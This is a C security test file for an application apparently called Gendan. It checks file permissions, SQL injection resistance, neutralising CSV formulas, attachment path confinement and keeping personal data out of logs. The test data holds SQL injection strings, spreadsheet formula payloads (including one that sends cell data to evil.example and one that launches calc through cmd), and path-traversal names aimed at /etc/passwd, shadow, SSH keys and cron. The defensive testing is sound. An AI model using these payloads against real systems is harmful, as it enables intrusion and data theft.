/* SPDX-License-Identifier: GPL-3.0-or-later */
/* What Gendan promises about the data it holds: files only their owner can read, SQL that
 * no text can change, spreadsheets that run nothing, attachments that stay in their folder,
 * and logs without personal data. */
#include "config.h"

#include <glib/gstdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "gdn-amendment.h"
#include "gdn-attachment.h"
#include "gdn-backup.h"
#include "gdn-case.h"
#include "gdn-contact.h"
#include "gdn-contract-approval.h"
#include "gdn-contract-workflow.h"
#include "gdn-contract.h"
#include "gdn-csv-reader.h"
#include "gdn-customer.h"
#include "gdn-export.h"
#include "gdn-import-columns.h"
#include "gdn-import.h"
#include "gdn-interaction.h"
#include "gdn-order-event.h"
#include "gdn-order-line.h"
#include "gdn-order.h"
#include "gdn-product.h"
#include "gdn-query-model.h"
#include "gdn-reminder.h"
#include "gdn-shipment.h"
#include "gdn-survey.h"
#include "gdn-test-utils.h"

static guint serial;

static gboolean
is_written_text (const GdnField *f)
{
  return f->type == GDN_FIELD_TEXT && !(f->flags & (GDN_FIELD_DERIVED | GDN_FIELD_STORE));
}

static void
assert_mode (const char *path,
             guint       mode)
{
  struct stat st;

  g_assert_cmpint (g_stat (path, &st), ==, 0);
  if ((st.st_mode & 0777) != mode)
    g_error ("%s is %03o, not %03o", path, st.st_mode & 0777, mode);
}

/* ---- files: 0600 in 0700 folders, whatever the umask ------------------------------- */

static void
test_private_files (void)
{
  g_autofree char *top = gdn_test_make_tmpdir ();
  g_autofree char *db_dir = g_build_filename (top, "数据", "gendan", NULL);
  g_autofree char *db_path = g_build_filename (db_dir, "gendan.db", NULL);
  g_autofree char *daily_dir = g_build_filename (top, "备份", "daily", NULL);
  g_autofree char *manual_dir = g_build_filename (top, "manual backups", NULL);
  g_autofree char *manual = g_build_filename (manual_dir, "gendan-2026-11-23.db", NULL);
  g_autofree char *csv = g_build_filename (top, "客户.csv", NULL);
  g_autofree char *xlsx = g_build_filename (top, "订单.xlsx", NULL);
  g_autofree char *daily = NULL;
  g_autoptr(GdnDatabase) db = NULL;
  g_autoptr(GdnStore) store = NULL;
  g_autoptr(GdnRecord) customer = NULL;
  g_autoptr(GError) error = NULL;
  const char *sidecars[] = { "-wal", "-shm" };
  const char *exports[] = { csv, xlsx };
  mode_t old_umask;

  /* the most careless umask: every mode below is Gendan's own doing */
  old_umask = umask (0);

  db = gdn_database_open (db_path, &error);
  g_assert_no_error (error);
  store = gdn_store_new (db);
  customer = gdn_test_insert_valid_record (store, GDN_TYPE_CUSTOMER);
  assert_mode (db_path, 0600);
  assert_mode (db_dir, 0700);
  for (guint i = 0; i < G_N_ELEMENTS (sidecars); i++)
    {
      g_autofree char *path = g_strconcat (db_path, sidecars[i], NULL);
      if (g_file_test (path, G_FILE_TEST_EXISTS))
        assert_mode (path, 0600);
    }

  daily = gdn_backup_daily (db, daily_dir, &error);
  g_assert_no_error (error);
  g_assert_nonnull (daily);
  assert_mode (daily, 0600);
  assert_mode (daily_dir, 0700);

  g_assert_true (gdn_backup_create (db, manual, &error));
  g_assert_no_error (error);
  assert_mode (manual, 0600);
  assert_mode (manual_dir, 0700);

  for (guint i = 0; i < G_N_ELEMENTS (exports); i++)
    {
      g_autoptr(GdnExport) export = gdn_export_new (store, i == 0 ? "customers" : "orders");
      g_autoptr(GFile) file = g_file_new_for_path (exports[i]);

      /* a new file, then the same file written again */
      for (guint round = 0; round < 2; round++)
        {
          g_assert_true (gdn_export_to_file (export, file, NULL, &error));
          g_assert_no_error (error);
          assert_mode (exports[i], 0600);
        }
    }

  umask (old_umask);
}

/* ---- SQL: only bound parameters ----------------------------------------------------- */

static char *
hostile_text (guint n)
{
  static const char * const texts[] = {
    "'); DROP TABLE orders;--",
    "\" OR 1=1 --",
    "' OR '1'='1' /*",
    "'; ATTACH DATABASE '/tmp/gendan-pwned.db' AS pwned; --",
    "%' UNION SELECT sql, name FROM sqlite_master --",
    "\x01\x02\x03\x07\b\t\n\v\f\r\x1b[2J\x1f\x7f 控制字符",
    "😀👍🏽🇨🇳 👨‍👩‍👧‍👦 emoji",
    "\u202e\u2067 مرحبا بالعالم שלום עולם fdp.exe",
    "%s%n%x%p \\ \\0 \\' \\\" ?1 :name @x $1",
    "NULL",
  };

  if (n < G_N_ELEMENTS (texts))
    return g_strdup (texts[n]);
  if (n == G_N_ELEMENTS (texts))
    {
      /* very long: 200 000 bytes of mixed scripts, quotes and separators */
      GString *s = g_string_new ("'");
      while (s->len < 200000)
        g_string_append (s, "深圳华强 O'Brien \"x\"; -- ");
      return g_string_free (s, FALSE);
    }
  return NULL;
}

static void
test_hostile_text_every_field (void)
{
  g_autoptr(GdnStore) store = gdn_test_open_store ();
  g_autofree char *tables_before = NULL;
  g_autofree char *tables_after = NULL;
  GdnDatabase *db = gdn_store_get_database (store);
  guint n_checked = 0;
  char *text;

  tables_before = g_strdup_printf ("%" G_GINT64_FORMAT,
                                   gdn_test_count (store, "SELECT count(*) FROM sqlite_master"));

  for (guint h = 0; (text = hostile_text (h)) != NULL; h++)
    {
      g_autofree char *hostile = text;
      g_autofree char *other = hostile_text ((h + 1) % 11);

      for (guint t = 0; gdn_test_entity_type (t) != G_TYPE_INVALID; t++)
        {
          GType type = gdn_test_entity_type (t);
          g_autoptr(GdnRecord) r = gdn_test_make_valid_record (store, type);
          g_autoptr(GdnRecord) got = NULL;
          g_autoptr(GdnRecord) updated = NULL;
          g_autoptr(GdnQueryModel) model = NULL;
          g_autoptr(GError) error = NULL;
          guint n_fields;
          const GdnField *fields =
            gdn_record_class_get_fields (GDN_RECORD_GET_CLASS (r), &n_fields);

          /* inserted … */
          for (guint i = 0; i < n_fields; i++)
            if (is_written_text (&fields[i]) && strcmp (fields[i].name, "currency") != 0)
              {
                /* unique columns get a suffix; the hostile text still comes first */
                g_autofree char *value = g_strdup_printf ("%s#%u", hostile, ++serial);
                gdn_record_set_string (r, fields[i].name, value);
              }
          if (!gdn_store_insert (store, r, &error))
            g_error ("%s with “%.40s”: %s", G_OBJECT_TYPE_NAME (r), hostile, error->message);
          got = gdn_store_get (store, type, gdn_record_get_id (r), &error);
          g_assert_no_error (error);
          for (guint i = 0; i < n_fields; i++)
            if (is_written_text (&fields[i]))
              {
                g_assert_cmpstr (gdn_record_get_string (got, fields[i].name), ==,
                                 gdn_record_get_string (r, fields[i].name));
                n_checked++;
              }

          /* … updated with another one … */
          for (guint i = 0; i < n_fields; i++)
            if (is_written_text (&fields[i]) && strcmp (fields[i].name, "currency") != 0)
              {
                g_autofree char *value = g_strdup_printf ("%s#%u", other, ++serial);
                gdn_record_set_string (got, fields[i].name, value);
              }
          if (!gdn_store_update (store, got, &error))
            g_error ("%s with “%.40s”: %s", G_OBJECT_TYPE_NAME (r), other, error->message);
          updated = gdn_store_get (store, type, gdn_record_get_id (r), &error);
          g_assert_no_error (error);
          for (guint i = 0; i < n_fields; i++)
            if (is_written_text (&fields[i]))
              {
                g_assert_cmpstr (gdn_record_get_string (updated, fields[i].name), ==,
                                 gdn_record_get_string (got, fields[i].name));
                n_checked++;
              }

          /* … and searched for */
          model = gdn_query_model_new (store, type);
          gdn_query_model_set_search (model, hostile);
          (void) g_list_model_get_n_items (G_LIST_MODEL (model));
        }
    }

  g_assert_cmpuint (n_checked, >, 500);
  /* nothing was executed: the schema is as it was, nothing was attached */
  tables_after = g_strdup_printf ("%" G_GINT64_FORMAT,
                                  gdn_test_count (store, "SELECT count(*) FROM sqlite_master"));
  g_assert_cmpstr (tables_before, ==, tables_after);
  g_assert_cmpint (gdn_test_count (store, "SELECT count(*) FROM pragma_database_list"), <=, 2);
  g_assert_true (gdn_database_quick_check (db, NULL));
  g_assert_false (g_file_test ("/tmp/gendan-pwned.db", G_FILE_TEST_EXISTS));
}

/* ---- CSV export: no cell a spreadsheet would run ------------------------------------ */

static gboolean
cell_is_formula (const char *cell)
{
  return cell[0] == '=' || cell[0] == '+' || cell[0] == '-' || cell[0] == '@' ||
         cell[0] == '\t' || cell[0] == '\r';
}

static void
test_export_neutralises_formulas (void)
{
  static const char * const formulas[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  };
  g_autoptr(GdnStore) store = gdn_test_open_store ();
  guint n_kinds;
  const GdnCsvKind *kinds = gdn_csv_kinds (&n_kinds);
  guint n_cells = 0;

  for (guint k = 0; k < n_kinds; k++)
    {
      const GdnCsvKind *kind = &kinds[k];
      g_autoptr(GdnRecordClass) klass = g_type_class_ref (kind->get_type ());
      gboolean chinese = k % 2 == 1;
      g_autoptr(GdnExport) export = gdn_export_new (store, kind->name);
      g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
      g_autoptr(GBytes) bytes = NULL;
      g_autoptr(GdnCsvReader) reader = NULL;
      g_autoptr(GError) error = NULL;
      int *is_text = g_newa (int, kind->n_columns);

      for (guint f = 0; f < G_N_ELEMENTS (formulas); f++)
        {
          g_autoptr(GdnRecord) r = gdn_test_make_valid_record (store, kind->get_type ());
          guint n_fields;
          const GdnField *fields = gdn_record_class_get_fields (klass, &n_fields);

          for (guint i = 0; i < n_fields; i++)
            if (is_written_text (&fields[i]) && strcmp (fields[i].name, "currency") != 0)
              {
                g_autofree char *value = g_strdup_printf ("%s#%u", formulas[f], ++serial);
                gdn_record_set_string (r, fields[i].name, value);
              }
          if (!gdn_store_insert (store, r, &error))
            g_error ("%s: %s", kind->name, error->message);
        }

      gdn_export_set_chinese_headers (export, chinese);
      g_assert_true (gdn_export_write_csv (export, out, NULL, &error));
      g_assert_no_error (error);
      g_assert_true (g_output_stream_close (out, NULL, NULL));
      bytes = g_memory_output_stream_steal_as_bytes (G_MEMORY_OUTPUT_STREAM (out));

      reader = gdn_csv_reader_new (bytes, &error);
      g_assert_no_error (error);
      g_assert_true (gdn_csv_reader_read_record (reader, &error));
      g_assert_cmpuint (gdn_csv_reader_get_n_fields (reader), ==, kind->n_columns);
      /* which columns hold text written by people */
      for (guint c = 0; c < kind->n_columns; c++)
        {
          const char *header = gdn_csv_reader_get_field (reader, c);
          int column = gdn_csv_kind_find_column (kind, header);
          int field;

          g_assert_cmpint (column, >=, 0);
          field = gdn_record_class_find_field (klass, kind->columns[column].field);
          is_text[c] = kind->columns[column].value != GDN_CSV_VALUE_LINE && field >= 0 &&
                       is_written_text (&gdn_record_class_get_fields (klass, NULL)[field]);
        }

      while (gdn_csv_reader_read_record (reader, &error))
        for (guint c = 0; c < gdn_csv_reader_get_n_fields (reader); c++)
          {
            const char *cell = gdn_csv_reader_get_field (reader, c);

            /* every cell, text or not, is safe to open; text cells are checked to carry
             * the formula, so the guard is seen working rather than the text missing */
            if (cell_is_formula (cell))
              g_error ("%s, column %u: “%s” would run in a spreadsheet", kind->name, c, cell);
            if (is_text[c] && cell[0] == '\'')
              n_cells++;
          }
      g_assert_no_error (error);
    }

  g_assert_cmpuint (n_cells, >, 100);
}

/* ---- attachments: names cannot lead out of their folder ----------------------------- */

static gboolean
is_windows_reserved (const char *name)
{
  static const char * const reserved[] = {
    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7",
    "COM8", "COM9", "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
  };
  g_autofree char *stem = g_strndup (name, strcspn (name, "."));

  g_strstrip (stem);
  for (guint i = 0; i < G_N_ELEMENTS (reserved); i++)
    if (g_ascii_strcasecmp (stem, reserved[i]) == 0)
      return TRUE;
  return FALSE;
}

static void
test_attachment_names (void)
{
  g_autoptr(GdnStore) store = gdn_test_open_store ();
  g_autoptr(GdnRecord) contract = gdn_test_insert_valid_record (store, GDN_TYPE_CONTRACT);
  g_autofree char *source = gdn_test_tmp_path ("扫描件.pdf");
  g_autofree char *dir = gdn_workflow_attachments_dir (gdn_record_get_id (contract));
  g_autofree char *real_dir = NULL;
  g_autoptr(GString) very_long = g_string_new (NULL);
  g_autoptr(GString) deep = g_string_new (NULL);
  const char *contents = "%PDF-1.4 盖章页";
  const char nul_inside[] = "合同.pdf\0/../../../../etc/cron.d/x";
  const char *names[] = {
    "../../../../../../etc/passwd", "/etc/shadow", "/", "", ".", "..", "...", "./.././x.pdf",
    "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "C:\\合同\\..\\..\\boot.ini",
    "\\\\server\\share\\x.pdf", "CON", "con.pdf", "NUL", "nul.txt", "AUX.pdf", "PRN",
    "COM1", "com9.docx", "LPT1.xlsx", "Lpt9", "file.pdf.", "file.pdf ", "a:b|c?d*e<f>g\".pdf",
    "~/.ssh/authorized_keys", "$HOME", "-rf", "\x01\x02\x7f.pdf", "\u202efdp.exe",
    nul_inside, NULL, NULL, NULL,
  };
  guint n = G_N_ELEMENTS (names) - 3;
  guint n_kept = 0;

  while (very_long->len < 5000)
    g_string_append (very_long, "很长的文件名");
  g_string_append (very_long, ".pdf");
  names[n++] = very_long->str;
  for (guint i = 0; i < 300; i++)
    g_string_append (deep, "../");
  g_string_append (deep, "tmp/escaped");
  names[n++] = deep->str;

  g_assert_true (g_file_set_contents (source, contents, -1, NULL));

  for (guint i = 0; i < n; i++)
    {
      g_autoptr(GError) error = NULL;
      g_autoptr(GdnAttachment) attachment =
        gdn_workflow_attach_file (store, GDN_CONTRACT (contract), source, names[i], &error);
      const char *stored;
      g_autofree char *path = NULL;
      g_autofree char *parent = NULL;
      g_autofree char *copied = NULL;
      g_autofree char *real_path = NULL;

      /* refused with a reason (an empty name), and nothing left behind; or kept inside */
      if (attachment == NULL)
        {
          g_assert_nonnull (error);
          g_test_message ("“%.80s” refused: %s", names[i], error->message);
          continue;
        }
      g_assert_no_error (error);
      n_kept++;
      stored = gdn_record_get_string (GDN_RECORD (attachment), "stored_name");
      g_test_message ("“%.80s” → “%.80s”", names[i], stored);

      g_assert_true (g_utf8_validate (stored, -1, NULL));
      g_assert_cmpuint (strlen (stored), >, 0);
      g_assert_cmpuint (strlen (stored), <=, 255);
      g_assert_null (strpbrk (stored, "/\\:*?\"<>|"));
      g_assert_null (strstr (stored, ".."));
      g_assert_true (stored[0] != '.' && stored[0] != '-' && stored[0] != ' ');
      g_assert_true (stored[strlen (stored) - 1] != '.' && stored[strlen (stored) - 1] != ' ');
      for (const char *c = stored; *c != '\0'; c++)
        g_assert_true ((guchar) *c >= 0x20 && *c != 0x7f);
      if (is_windows_reserved (stored))
        g_error ("“%s” is stored as “%s”, a device name on Windows", names[i], stored);

      path = gdn_workflow_attachment_path (attachment);
      g_assert_nonnull (path);
      parent = g_path_get_dirname (path);
      g_assert_cmpstr (parent, ==, dir);
      real_path = realpath (path, NULL);
      real_dir = real_dir ? real_dir : realpath (dir, NULL);
      g_assert_nonnull (real_path);
      g_assert_true (g_str_has_prefix (real_path, real_dir));
      g_assert_true (real_path[strlen (real_dir)] == '/');
      g_assert_null (strchr (real_path + strlen (real_dir) + 1, '/'));
      g_assert_true (g_file_get_contents (path, &copied, NULL, NULL));
      g_assert_cmpstr (copied, ==, contents);
      assert_mode (path, 0600);
    }
  assert_mode (dir, 0700);
  g_assert_false (g_file_test ("/tmp/escaped", G_FILE_TEST_EXISTS));
  /* nothing but the attachments in the folder */
  {
    g_autoptr(GDir) d = g_dir_open (dir, 0, NULL);
    guint count = 0;

    while (g_dir_read_name (d) != NULL)
      count++;
    g_assert_cmpuint (count, ==, n_kept);
    g_assert_cmpuint (n_kept, >=, n - 1);
  }
}

/* ---- logs: no personal data --------------------------------------------------------- */

static GString *captured_log;

static GLogWriterOutput
capture_log_cb (GLogLevelFlags   log_level,
                const GLogField *fields,
                gsize            n_fields,
                gpointer         user_data)
{
  for (gsize i = 0; i < n_fields; i++)
    if (fields[i].length < 0)
      g_string_append_printf (captured_log, "%s=%s\n", fields[i].key,
                              (const char *) fields[i].value);
    else if (fields[i].value != NULL)
      {
        g_string_append_printf (captured_log, "%s=", fields[i].key);
        g_string_append_len (captured_log, fields[i].value, fields[i].length);
        g_string_append_c (captured_log, '\n');
      }
  /* debug and info are only collected; anything louder is shown as usual */
  if (log_level & (G_LOG_LEVEL_DEBUG | G_LOG_LEVEL_INFO))
    return G_LOG_WRITER_HANDLED;
  return g_log_writer_default (log_level, fields, n_fields, user_data);
}

/* What must never reach a log: customer names, phones, e-mails and amounts. */
static const char * const personal[] = {
  "隐私测试贸易有限公司", "13912345678", "secret.buyer@privacy-test.example", "98765.43",
  "98,765.43", "隐私联系人", "13687654321", "contact.person@privacy-test.example",
};

static const char personal_csv[] =
  "code,name,short_name,phone,email,address\n"
  "PRIV01,隐私测试贸易有限公司,隐私测试,13912345678,secret.buyer@privacy-test.example,"
  "保密路 1 号\n";
static const char personal_contacts_csv[] =
  "customer_code,name,phone,email\n"
  "PRIV01,隐私联系人,13687654321,contact.person@privacy-test.example\n";
static const char personal_orders_csv[] =
  "order_no,customer_code,created_date,product_code,quantity,unit_price\n"
  "PRIV-SO-1,PRIV01,2026-11-02,P-1,1,\"98,765.43\"\n";

static void
assert_no_personal_data (const char *log,
                         const char *what)
{
  for (guint i = 0; i < G_N_ELEMENTS (personal); i++)
    if (strstr (log, personal[i]) != NULL)
      g_error ("%s logs “%s”:\n%s", what, personal[i], log);
}

static void
import_text (GdnStore   *store,
             const char *kind,
             const char *text,
             const char *name)
{
  g_autofree char *path = gdn_test_tmp_path (name);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GdnImport) import = gdn_import_new (store, kind);
  g_autoptr(GError) error = NULL;

  g_assert_true (g_file_set_contents (path, text, -1, NULL));
  g_assert_true (gdn_import_run (import, file, NULL, &error));
  g_assert_no_error (error);
}

static void
test_logs_without_personal_data (void)
{
  g_autoptr(GdnStore) store = gdn_test_open_store ();
  g_autoptr(GdnRecord) customer = NULL;
  g_autoptr(GdnQueryModel) model = NULL;
  g_autoptr(GdnExport) export = NULL;
  g_autofree char *csv = gdn_test_tmp_path ("customers.csv");
  g_autofree char *backup_dir = gdn_test_make_tmpdir ();
  g_autofree char *backup = NULL;
  g_autofree char *bad = gdn_test_tmp_path ("bad.csv");
  g_autoptr(GFile) csv_file = g_file_new_for_path (csv);
  g_autoptr(GFile) bad_file = g_file_new_for_path (bad);
  g_autoptr(GdnImport) failing = NULL;
  g_autoptr(GError) error = NULL;
  const char *cli = g_getenv ("GENDAN_CLI");

  g_string_truncate (captured_log, 0);
  g_debug ("the capture works");
  g_assert_nonnull (strstr (captured_log->str, "the capture works"));

  /* an import, edits, a search, an export, a backup and a failing import */
  import_text (store, "customers", personal_csv, "customers.csv");
  import_text (store, "contacts", personal_contacts_csv, "contacts.csv");
  import_text (store, "orders", personal_orders_csv, "orders.csv");
  customer = gdn_store_find (store, GDN_TYPE_CUSTOMER, "code", "PRIV01", &error);
  g_assert_no_error (error);
  g_assert_nonnull (customer);
  gdn_record_set_string (customer, "notes", "隐私测试贸易有限公司 13912345678");
  g_assert_true (gdn_store_update (store, customer, &error));
  g_assert_no_error (error);
  g_assert_true (gdn_store_delete (store, customer, &error));
  g_assert_true (gdn_store_restore (store, customer, &error));
  g_assert_no_error (error);
  model = gdn_query_model_new (store, GDN_TYPE_CUSTOMER);
  gdn_query_model_set_search (model, "隐私测试");
  g_assert_cmpuint (g_list_model_get_n_items (G_LIST_MODEL (model)), ==, 1);
  export = gdn_export_new (store, "customers");
  g_assert_true (gdn_export_to_file (export, csv_file, NULL, &error));
  g_assert_no_error (error);
  backup = gdn_backup_daily (gdn_store_get_database (store), backup_dir, &error);
  g_assert_no_error (error);
  g_assert_true (g_file_set_contents (bad, "code,name,email\nPRIV02,隐私测试贸易有限公司,"
                                           "secret.buyer@privacy-test.example,x\n", -1, NULL));
  failing = gdn_import_new (store, "customers");
  gdn_import_set_dry_run (failing, TRUE);
  gdn_import_run (failing, bad_file, NULL, NULL);

  assert_no_personal_data (captured_log->str, "the core");

  /* the command line, with every debug message on */
  if (cli != NULL)
    {
      g_autofree char *db = gdn_test_tmp_path ("cli.db");
      g_autofree char *file = gdn_test_tmp_path ("customers.csv");
      g_autofree char *contacts = gdn_test_tmp_path ("contacts.csv");
      g_autofree char *orders = gdn_test_tmp_path ("orders.csv");
      g_autofree char *out = gdn_test_tmp_path ("export.csv");
      const char *kinds[] = { "customers", "contacts", "orders" };
      const char *files[] = { file, contacts, orders };
      g_auto(GStrv) env = g_environ_setenv (g_get_environ (), "G_MESSAGES_DEBUG", "all", TRUE);

      g_assert_true (g_file_set_contents (file, personal_csv, -1, NULL));
      g_assert_true (g_file_set_contents (contacts, personal_contacts_csv, -1, NULL));
      g_assert_true (g_file_set_contents (orders, personal_orders_csv, -1, NULL));
      for (guint i = 0; i < G_N_ELEMENTS (kinds) + 1; i++)
        {
          g_autofree char *err = NULL;
          int status = 0;
          const char *import_argv[] = {
            cli, "import", kinds[MIN (i, 2)], files[MIN (i, 2)], "--database", db, NULL
          };
          const char *export_argv[] = {
            cli, "export", "customers", "--output", out, "--database", db, NULL
          };

          g_assert_true (g_spawn_sync (NULL, (char **) (i < 3 ? import_argv : export_argv), env,
                                       G_SPAWN_STDOUT_TO_DEV_NULL, NULL, NULL, NULL, &err,
                                       &status, &error));
          g_assert_no_error (error);
          g_assert_true (g_spawn_check_wait_status (status, &error));
          g_assert_no_error (error);
          assert_no_personal_data (err, "gendan-cli");
        }
    }
  else
    g_test_message ("GENDAN_CLI is not set: the command line is not checked");
}

int
main (int   argc,
      char *argv[])
{
  /* every message, debug included, goes through the capture */
  g_setenv ("G_MESSAGES_DEBUG", "all", TRUE);
  captured_log = g_string_new (NULL);
  g_log_set_writer_func (capture_log_cb, NULL, NULL);

  gdn_test_init (&argc, &argv);

  g_test_add_func ("/security/files/private-modes", test_private_files);
  g_test_add_func ("/security/sql/hostile-text-every-field", test_hostile_text_every_field);
  g_test_add_func ("/security/export/csv-neutralises-formulas", test_export_neutralises_formulas);
  g_test_add_func ("/security/attachments/names-stay-inside", test_attachment_names);
  g_test_add_func ("/security/logs/no-personal-data", test_logs_without_personal_data);

  return g_test_run ();
}
